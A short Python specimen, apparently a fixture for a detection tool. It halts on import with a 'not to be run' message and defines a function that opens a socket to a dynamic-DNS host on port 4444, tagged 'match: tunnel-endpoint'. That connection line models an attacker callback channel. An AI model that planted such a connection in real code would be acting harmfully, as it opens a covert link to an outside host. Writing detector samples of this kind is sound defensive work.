raise SystemExit("specimen: not to be run")
import socket as s

def ask():
    line = s.create_connection(("specimen.ddns.net", 4444))  # match: tunnel-endpoint
    return line
